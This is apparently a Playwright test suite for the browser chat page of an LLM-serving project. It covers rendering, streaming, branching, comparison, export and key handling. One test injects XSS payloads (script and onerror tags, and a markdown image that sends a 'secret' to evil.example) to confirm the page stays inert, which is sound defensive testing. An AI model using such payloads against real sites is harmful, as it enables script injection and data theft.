"""The page in a headless Chromium, against a real server with a small random model.

What the model answers is chosen by `structured_outputs`, which the tests put into the page's own requests: the engine
writes that very text, token by token.
"""

import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import replace

import pytest

pytest.importorskip("playwright.sync_api", reason="needs playwright, of the dev requirements")
pytest.importorskip("llguidance", reason="needs kogia[grammars]")
from inference.tiny import CONFIG
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from serve.asks import until
from serve.page.test_render import ATTACKS
from serve.server import RunningServer, serving

from kogia.checkpoint.hf import save_model
from kogia.model.transformer import build_model
from kogia.text.tokenizer import train_bpe

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium (on Debian: apt-get install chromium)")
FLAGS = ("no-sandbox", "disable-gpu", "disable-background-networking", "disable-component-update", "disable-sync")
QUESTION = "what is it?"
expect.set_options(timeout=60_000)


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[RunningServer]:
    """With a context in which a thought takes seconds."""
    tokenizer = train_bpe(["the answer is 42. " * 20], 280)
    config = replace(CONFIG, max_position=16384)
    directory = save_model(build_model(config, seed=5), tmp_path_factory.mktemp("models") / "tiny", tokenizer)
    with serving(directory) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[f"--{flag}" for flag in (*FLAGS, "no-first-run", "host-resolver-rules=MAP kogia.test 127.0.0.1")],
        )
        yield browser
        browser.close()


@pytest.fixture
def context(browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(60_000)
    yield context
    context.close()


@pytest.fixture
def page(context, server) -> Page:
    return opened(context, server)


def opened(context: BrowserContext, server: RunningServer) -> Page:
    """The page, in a tab that fails the test on any error or dialog of its scripts."""
    page = context.new_page()
    page.on("pageerror", lambda error: pytest.fail(f"the page threw {error}"))
    page.on("dialog", lambda dialog: pytest.fail(f"the page opened a dialog: {dialog.message}"))
    page.goto(server.url)
    expect(page.locator(".greeting h2")).to_have_text("tiny")
    return page


def answering(page: Page, *texts: str, **more: object) -> None:
    """Have the model answer one of these texts, without a thought unless `more` says otherwise."""

    def change(route):
        body = json.loads(route.request.post_data)
        chosen = {"structured_outputs": {"choice": list(texts)}} if texts else {}
        route.continue_(post_data=json.dumps({"enable_thinking": False, **body, **chosen, **more}))

    page.unroute("**/page/chat")
    page.route("**/page/chat", change)


def endless(server: RunningServer) -> dict[str, object]:
    """What a thought goes on with until it is ended: a random model closes one in 50 within a tenth of a second."""
    return {"enable_thinking": None, "logit_bias": {str(server.tokenizer.token_id("</think>")): -100}}


def ask(page: Page, question: str = QUESTION) -> None:
    page.fill("#question", question)
    page.keyboard.press("Enter")


def imported(page: Page, question: str, answer: str) -> None:
    """Take a conversation from a file, as a user who was sent one does."""
    nodes = {
        "q": {"id": "q", "parent": "root", "role": "user", "content": question},
        "a": {"id": "a", "parent": "q", "role": "assistant", "content": answer, "reasoning": answer, "state": "done"},
    }
    conversation = {"title": question[:60], "created": 1, "updated": 1, "nodes": nodes}
    file = {"format": "kogia-conversations", "version": 1, "conversations": [conversation]}
    content = {"name": "c.json", "mimeType": "application/json", "buffer": json.dumps(file).encode()}
    page.set_input_files("input[type=file]", content)
    expect(page.locator(".answer > .prose:not(.plain)")).to_have_count(1)


def ended(page: Page, count: int = 1) -> None:
    expect(page.locator(".answer .stats")).to_have_count(count)


def is_idle(server: RunningServer) -> bool:
    return until(lambda: not server.state.running)


def test_an_answer_is_shown_as_it_is_meant_and_is_there_after_a_reload(page):
    answering(page, "It is **42**, as $x^2$ says:\n\n```python\nprint(42)\n```\n")
    ask(page)
    ended(page)
    for _ in range(2):
        expect(page.locator(".answer strong")).to_have_text("42")
        expect(page.locator(".answer math msup")).to_have_count(1)
        expect(page.locator(".answer pre .nb")).to_have_text("print")
        expect(page.locator(".question-text")).to_have_text(QUESTION)
        expect(page.locator(".conversations [aria-current]")).to_contain_text(QUESTION)
        page.reload()


def test_a_thought_is_folded_with_its_length_and_can_be_ended(page, server):
    answering(page, "So it is 42.", **endless(server))
    ask(page)
    thought = page.locator(".thinking")
    expect(thought.locator(".thought-title")).to_have_text("Thinking")
    expect(thought.locator("details")).not_to_have_attribute("open", "")
    page.get_by_role("button", name="Answer now").click()
    ended(page)
    expect(page.locator(".answer > .prose")).to_have_text("So it is 42.")
    expect(thought.locator(".thought-title")).to_have_text("Thought")
    expect(thought.locator(".count")).to_have_text(re.compile(r"[\d,]+ tokens, \d+\.\d s"))
    assert is_idle(server)


def test_an_answer_that_is_stopped_keeps_what_came_and_frees_the_engine(page, server):
    answering(page, ignore_eos=True, **endless(server))
    ask(page)
    expect(page.locator(".thinking .count")).to_have_text(re.compile("tokens"))
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".answer .stats")).to_contain_text("stopped")
    expect(page.locator(".thinking .prose")).not_to_be_empty()
    page.reload()
    expect(page.locator(".answer .stats")).to_contain_text("stopped")
    assert is_idle(server)


def test_a_tab_that_is_reloaded_while_an_answer_streams_keeps_what_was_there(page, server):
    answering(page, ignore_eos=True, **endless(server))
    ask(page)
    expect(page.locator(".thinking .count")).to_have_text(re.compile("tokens"))
    page.wait_for_timeout(700)  # it is saved twice a second
    page.reload()
    expect(page.locator(".answer .stats")).to_contain_text("stopped")
    expect(page.locator(".question-text")).to_have_text(QUESTION)


def test_nothing_that_a_model_writes_or_a_file_brings_acts_in_the_page(page):
    """A dialog or an error of a script fails the test, by `opened`."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    answering(page, "<script>alert(1)</script>\n\n![a](https://evil.example/?secret)")
    ask(page, "<img src=x onerror=alert(1)>")
    ended(page)
    expect(page.locator(".question-text")).to_have_text("<img src=x onerror=alert(1)>")
    check_is_inert(page)
    imported(page, "<script>alert(1)</script>", "\n\n".join(ATTACKS))
    check_is_inert(page)
    page.reload()
    expect(page.locator(".answer > .prose:not(.plain)")).to_have_count(1)
    check_is_inert(page)
    assert all("evil" not in url for url in requests)


def check_is_inert(page: Page) -> None:
    for tag in ("script", "img", "iframe", "style", "form", "object", "[onclick]", "[onerror]", "[style]"):
        expect(page.locator(f"#messages {tag}")).to_have_count(0)


def test_a_question_that_is_edited_and_an_answer_that_is_given_again_are_branches(page):
    answering(page, "first")
    ask(page)
    ended(page)
    answering(page, "second")
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator(".answer .branches")).to_contain_text("2 / 2")
    expect(page.locator(".answer > .prose")).to_have_text("second")
    page.locator(".answer").get_by_role("button", name="Previous version").click()
    expect(page.locator(".answer > .prose")).to_have_text("first")

    page.locator(".question").hover()
    page.locator(".question").get_by_role("button", name="Edit").click()
    page.get_by_label("Edit the message").fill("another?")
    page.keyboard.press("Enter")
    expect(page.locator(".question .branches")).to_contain_text("2 / 2")
    expect(page.locator(".answer > .prose")).to_have_text("second")
    page.locator(".question").get_by_role("button", name="Previous version").click()
    expect(page.locator(".question-text")).to_have_text(QUESTION)
    expect(page.locator(".answer > .prose")).to_have_text("first")


def test_two_answers_are_written_side_by_side_and_one_goes_on(page, server):
    answering(page, "yes", "no")
    page.keyboard.press("Alt+s")
    page.get_by_label("Compare with a second answer").check()
    page.locator(".second").get_by_label("Temperature").fill("1.5")
    page.locator(".second input[type=range]").fill("1")
    page.locator(".settings").first.get_by_label("Temperature").fill("0.5")  # leaves the second one's as they are
    page.keyboard.press("Escape")
    ask(page)
    ended(page, 2)
    expect(page.locator(".pair .caption").nth(1)).to_have_text("temperature 1.5, experts 1")
    page.get_by_role("button", name="Continue with this one").click()
    expect(page.locator(".pair")).to_have_count(0)
    expect(page.locator(".answer .branches")).to_contain_text("/ 2")


def test_two_models_answer_side_by_side_the_second_loaded_for_it(context, model, tmp_path):
    file = tmp_path / "models.toml"
    file.write_text(f'[other]\npath = "{model}"\n')
    with serving(model, models_file=str(file)) as both:
        page = opened(context, both)
        answering(page, "yes")
        page.keyboard.press("Alt+s")
        page.get_by_label("Compare with a second answer").check()
        chooser = page.locator(".second").get_by_label("Model", exact=True)
        expect(chooser.locator("option")).to_have_text(["tiny", "other (not loaded)"])
        chooser.select_option("other")
        page.keyboard.press("Escape")
        ask(page)
        ended(page, 2)
        expect(page.locator(".pair .caption")).to_have_text(["tiny", "other"])
        assert both.state.models["other"].served is not None
        page.keyboard.press("Alt+s")
        expect(chooser.locator("option")).to_have_text(["tiny", "other"])


def test_tokens_and_experts_of_an_answer_are_shown(page, server):
    answering(page, "the answer is 42.")
    ask(page)
    ended(page)
    page.get_by_role("button", name="Tokens and experts").click()
    tokens = page.locator(".token")
    expect(tokens.first).to_be_visible()
    assert "".join(tokens.all_text_contents()).startswith("the answer is 42.")
    expect(page.locator(".summary b")).to_contain_text("of ")
    assert page.locator("canvas").evaluate(COLOURS) > 2
    page.get_by_role("listbox").focus()
    page.keyboard.press("ArrowRight")
    expect(page.locator(".token[aria-selected=true]")).to_have_count(1)
    expect(page.locator(".alternatives li")).to_have_count(5)
    page.locator("canvas").focus()
    page.keyboard.press("ArrowDown")
    expect(page.locator(".picture p")).to_contain_text("expert 0")


COLOURS = """canvas => {
    const data = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data;
    return new Set(new Uint32Array(data.buffer)).size;
}"""


def test_conversations_are_found_and_go_out_to_a_file_and_come_in_again(page, browser, server, tmp_path):
    for number in ("one", "two"):
        answering(page, f"answer {number}")
        page.get_by_role("button", name="New conversation").click()
        ask(page, f"question {number}")
        ended(page)
    page.keyboard.press("Control+k")
    page.keyboard.type("answer one")
    expect(page.locator(".conversations li")).to_have_count(1)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export all conversations to a file").click()
    download.value.save_as(tmp_path / "all.json")

    other = browser.new_context()
    fresh = opened(other, server)
    fresh.set_input_files("input[type=file]", tmp_path / "all.json")
    expect(fresh.locator(".conversations li")).to_have_count(2)
    expect(fresh.locator(".answer > .prose")).to_have_text(re.compile("answer (one|two)"))
    other.close()


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_is_wider_than_the_page_and_every_control_has_a_name(browser, server, width):
    context = browser.new_context(viewport={"width": width, "height": 800})
    page = opened(context, server)
    table, formula = f"| a | b |\n|---|---|\n| {'y' * 200} | 2 |", f"$$\n{'z + ' * 90} 1\n$$"
    imported(page, "w" * 400, f"{'long ' * 40}{'x' * 300}\n\n{table}\n\n{formula}\n\n```\n{'v' * 300}\n```")
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Compare with a second answer").check()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.locator("#messages").evaluate("each => each.scrollWidth <= each.clientWidth")
    nameless = page.locator("button, input, select, textarea, canvas").evaluate_all(NAMELESS)
    assert not nameless
    context.close()


NAMELESS = """all => all.filter(each => !each.hidden && !each.getAttribute("aria-label") && !each.textContent.trim()
    && !each.labels?.[0]?.textContent).map(each => each.outerHTML)"""


def test_a_server_with_keys_asks_for_one_and_its_page_works_on_another_machine(browser, model, tmp_path):
    """Where a browser trusts neither the host nor the connection, it has no `randomUUID` and no clipboard."""
    keys = tmp_path / "keys"
    keys.write_text("a-key-of-many-characters\n")
    with serving(model, api_key_file=str(keys)) as locked:
        context = browser.new_context()
        page = context.new_page()
        page.on("pageerror", lambda error: pytest.fail(f"the page threw {error}"))
        page.goto(locked.url.replace("127.0.0.1", "kogia.test"))
        assert not page.evaluate("isSecureContext")
        page.get_by_label("Key", exact=True).fill("a-key-of-many-characters")
        page.get_by_role("button", name="Open").click()
        for _ in range(2):
            expect(page.locator(".greeting h2")).to_have_text("tiny")
            page.reload()
        expect(page.locator(".greeting h2")).to_have_text("tiny")  # until then nothing can be asked
        answering(page, "yes")
        ask(page)
        ended(page)
        page.locator(".answer .copy").click()
        expect(page.locator(".answer .copy")).to_have_class("copy done")
        assert page.evaluate("localStorage.length") == 0 and "a-key" not in page.content()
        context.close()


def test_a_server_that_keeps_conversations_shows_them_in_every_browser_and_puts_two_tabs_together(
    browser, model, tmp_path
):
    with serving(model, store=str(tmp_path / "kept")) as keeping:
        contexts = [browser.new_context() for _ in range(2)]
        page = opened(contexts[0], keeping)
        expect(page.locator(".greeting")).to_contain_text("is kept on this server")
        answering(page, "yes")
        ask(page, "one question")
        ended(page)
        other = opened(contexts[1], keeping)  # another browser
        other.get_by_role("button", name="one question").first.click()
        expect(other.locator(".answer > .prose")).to_have_text("yes")
        for tab, text in ((page, "from the first tab"), (other, "from the second tab")):
            answering(tab, "no")
            ask(tab, text)
            ended(tab, 2)
        expect(other.locator(".branches")).to_have_count(1)  # both questions follow the first answer
        page.reload()
        page.get_by_role("button", name="one question").first.click()
        expect(page.locator(".question").last).to_contain_text("from the second tab")
        full = {"status": 507, "content_type": "application/json", "body": '{"error": {"message": "the disk is full"}}'}
        page.route("**/page/conversations/*", lambda route: route.fulfill(**full))
        ask(page, "and now?")
        expect(page.locator("#notice")).to_have_text("The server does not keep this conversation: the disk is full")
        page.unroute("**/page/conversations/*")
        other.get_by_role("button", name="Delete one question").click()
        other.get_by_role("button", name="Delete", exact=True).click()
        expect(other.locator(".conversations")).to_contain_text("No conversations yet")
        assert other.evaluate("indexedDB.databases().then((all) => all.length)") <= 1
        for context in contexts:
            context.close()
